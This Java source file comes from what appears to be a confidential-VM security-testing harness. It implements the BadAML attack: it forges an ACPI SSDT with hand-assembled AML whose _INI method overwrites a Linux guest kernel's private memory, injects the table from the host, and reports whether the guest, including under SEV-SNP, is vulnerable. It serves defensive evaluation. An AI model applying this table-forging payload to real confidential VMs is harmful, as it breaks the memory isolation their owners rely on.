package dev.vesper.cli.attack;

import dev.vesper.machine.Machine;
import dev.vesper.machine.Stop;
import dev.vesper.machine.Until;
import dev.vesper.machine.hostile.Hex;
import dev.vesper.machine.hostile.HostValue;
import dev.vesper.machine.hostile.LawfulAction;
import dev.vesper.machine.hostile.Script;
import dev.vesper.machine.hostile.Trigger;
import dev.vesper.machine.spec.MachineSpec;
import dev.vesper.machine.spec.SevMode;
import dev.vesper.machine.spec.SnpLaunch;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.function.UnaryOperator;
import org.jspecify.annotations.Nullable;

/**
 * ACPI tables are the host's, and the kernel executes what is in them: a method that writes to
 * system memory writes to private memory, by the kernel's own accesses.
 */
final class BadAml {
  private static final String SOURCE = "BadAML, CCS 2025";
  private static final String NEEDS = "Linux, which is given ACPI tables in memory";
  private static final String ORACLE = "the plaintext of the kernel's own data is the host's";

  /** How linux_banner begins, which the kernel has for itself and never writes. */
  private static final byte[] VICTIM = ascii("Linux version ");

  // Where the kernel lies that is not moved about, physical.
  private static final int KERNEL = 0x100_0000;
  private static final int KERNEL_BYTES = 0x400_0000;

  /** By then the kernel has executed the tables. */
  private static final String LATER = "syscall_return_via_sysret";

  // Where tables may be, and what leads to them: ACPI 6.4, 5.2.5.
  private static final int AREA = 0xE_0000;
  private static final int AREA_BYTES = 0x2_0000;
  private static final int RSDP_BYTES = 36;
  private static final int RSDP_FIRST = 20;
  private static final int XSDT = 24;
  private static final int HEADER = 36;
  private static final int PAGE = 4096;

  private BadAml() {}

  static List<Attack> all() {
    return List.of(
        Attack.lawful(
            "badaml",
            "a method in a table of the host's writes to the kernel's memory",
            SOURCE,
            NEEDS,
            ORACLE,
            run -> carryOut(run, b -> b)),
        Attack.lawful(
            "badaml-snp",
            "the same, of a kernel that is launched under SEV-SNP",
            SOURCE,
            NEEDS,
            ORACLE,
            run ->
                carryOut(
                    run, b -> b.mode(SevMode.SNP).cpuModel("EPYC-Milan").snp(SnpLaunch.DEFAULT))));
  }

  private static Verdict carryOut(AttackRun run, UnaryOperator<MachineSpec.Builder> level) {
    if (run.target().kind() != Target.Kind.LINUX) {
      return Verdict.notApplicable("nothing in this guest executes AML");
    }
    long gpa;
    byte[] good;
    Script script;
    String digest;
    try (Trial t = run.trial(level)) {
      Machine m = t.machine();
      byte[] area = m.observer().readAsTouched(AREA, AREA_BYTES);
      digest = m.launchDigest();
      Stop s = m.run(Until.symbol("kernel_init_freeable").or(Until.instructions(t.most())));
      int at = s instanceof Stop.Breakpoint ? victim(m) : -1;
      if (at < 0) {
        return Verdict.notApplicable(
            "the kernel does not come so far, or is not where it was linked: boot it with nokaslr");
      }
      gpa = KERNEL + at;
      good = m.observer().readPrivate(gpa, Long.BYTES);
      Script made = script(area, gpa);
      if (made == null) {
        return Verdict.notApplicable("there are no tables, or no room behind them");
      }
      script = made;
    }
    try (Trial t = run.trial(b -> level.apply(b).hostile(script))) {
      Machine m = t.machine();
      Stop s = m.run(Until.symbol(LATER).or(Until.instructions(t.most())));
      byte[] now = m.observer().readPrivate(gpa, Long.BYTES);
      String proof = HexFormat.of().formatHex(good) + " became " + HexFormat.of().formatHex(now);
      String measured =
          m.launchDigest().equals(digest) ? "" : "the launch digest is another one with the table";
      if (ByteBuffer.wrap(now).order(ByteOrder.LITTLE_ENDIAN).getLong() == ForgedVc.LIE) {
        return Verdict.vulnerable("executes the host's AML on its own memory", proof, measured);
      }
      String ending = s instanceof Stop.Ended e ? t.ending(e.outcome()) : null;
      return Verdict.defended(ending != null ? ending : "keeps its memory", proof, s.description());
    }
  }

  /**
   * {@return a script that puts one more table behind those of the launch, or null if it cannot}
   *
   * @param area what is where tables may be
   * @param gpa that the table's method writes to
   */
  private static @Nullable Script script(byte[] area, long gpa) {
    ByteBuffer b = ByteBuffer.wrap(area).order(ByteOrder.LITTLE_ENDIAN);
    int rsdp = rsdp(area);
    if (rsdp < 0) {
      return null;
    }
    int xsdt = (int) b.getLong(rsdp + XSDT) - AREA;
    if (xsdt < 0 || xsdt > AREA_BYTES - HEADER) {
      return null;
    }
    int end = AREA_BYTES;
    while (area[end - 1] == 0) {
      end--;
    }
    int at = end + 15 & -16;
    byte[] ssdt = table("SSDT", 2, terms(gpa));
    int root = at + ssdt.length + 15 & -16;
    byte[] entries = Arrays.copyOfRange(area, xsdt + HEADER, xsdt + b.getInt(xsdt + 4));
    ByteBuffer all = ByteBuffer.allocate(entries.length + 8).order(ByteOrder.LITTLE_ENDIAN);
    byte[] list = table("XSDT", 1, all.put(entries).putLong(AREA + at).array());
    // What is launched is whole pages: those behind are not.
    if (root + list.length > (end + PAGE - 1 & -PAGE)) {
      return null;
    }
    ByteBuffer head =
        ByteBuffer.wrap(Arrays.copyOfRange(area, rsdp, rsdp + RSDP_BYTES))
            .order(ByteOrder.LITTLE_ENDIAN);
    head.putLong(XSDT, AREA + root).put(8, (byte) 0).put(32, (byte) 0);
    head.put(8, sum(head.array(), RSDP_FIRST)).put(32, sum(head.array(), RSDP_BYTES));
    return Script.builder()
        .lawful(new Trigger.LaunchStep(Trigger.Step.LOADED))
        .perform(write(at, ssdt), write(root, list), write(rsdp, head.array()))
        .build();
  }

  /** {@return where the kernel has the victim, from its own beginning, or -1} */
  private static int victim(Machine m) {
    byte[] kernel = m.observer().readPrivate(KERNEL, KERNEL_BYTES);
    for (int i = 0; i + VICTIM.length <= kernel.length; i += Long.BYTES) {
      if (Arrays.equals(kernel, i, i + VICTIM.length, VICTIM, 0, VICTIM.length)) {
        return i;
      }
    }
    return -1;
  }

  private static LawfulAction write(int at, byte[] bytes) {
    return new LawfulAction.WriteCiphertext(HostValue.of(AREA + at), Hex.of(bytes));
  }

  private static int rsdp(byte[] area) {
    byte[] name = "RSD PTR ".getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i + RSDP_BYTES <= area.length; i += 16) {
      if (Arrays.equals(area, i, i + name.length, name, 0, name.length)) {
        return i;
      }
    }
    return -1;
  }

  /** {@return the byte that has the sum of the first bytes be 0} */
  private static byte sum(byte[] bytes, int length) {
    byte s = 0;
    for (int i = 0; i < length; i++) {
      s -= bytes[i];
    }
    return s;
  }

  private static byte[] table(String signature, int revision, byte[] body) {
    ByteBuffer t = ByteBuffer.allocate(HEADER + body.length).order(ByteOrder.LITTLE_ENDIAN);
    t.put(ascii(signature)).putInt(t.capacity()).put((byte) revision).put((byte) 0);
    t.put(ascii("VESPER")).put(ascii("HOSTILE ")).putInt(1).put(ascii("VSPR")).putInt(1).put(body);
    t.put(9, sum(t.array(), t.capacity()));
    return t.array();
  }

  private static byte[] ascii(String s) {
    return s.getBytes(StandardCharsets.US_ASCII);
  }

  /**
   * {@return a region of system memory with a field of 64 bits, and a device whose _INI stores to
   * it} ACPI 6.4, 20.2.
   */
  private static byte[] terms(long gpa) {
    ByteBuffer b = ByteBuffer.allocate(128).order(ByteOrder.LITTLE_ENDIAN);
    b.put(hex("5b80")).put(ascii("PRIV")).put(hex("000e")).putLong(gpa).put(hex("0a08"));
    // Accesses of 64 bits, a field of 64 bits.
    b.put(hex("5b810c")).put(ascii("PRIV")).put((byte) 4).put(ascii("DATA")).put(hex("4004"));
    ByteBuffer ini = ByteBuffer.allocate(20).order(ByteOrder.LITTLE_ENDIAN);
    ini.put(hex("1414")).put(ascii("_INI")).put(hex("00700e")).putLong(ForgedVc.LIE);
    byte[] name = ascii("_HID");
    ByteBuffer device = ByteBuffer.allocate(64);
    device.put(ascii("EVIL")).put((byte) 8).put(name).put((byte) 0x0D).put(ascii("EVIL0001"));
    device.put((byte) 0).put(Arrays.copyOf(ini.array(), ini.position())).put(ascii("DATA"));
    int bytes = device.position();
    b.put((byte) 0x10).put((byte) (bytes + 3 + 6)).put((byte) '\\').put(ascii("_SB_"));
    b.put(hex("5b82")).put((byte) (bytes + 1)).put(device.array(), 0, bytes);
    return Arrays.copyOf(b.array(), b.position());
  }

  private static byte[] hex(String s) {
    return HexFormat.of().parseHex(s);
  }
}
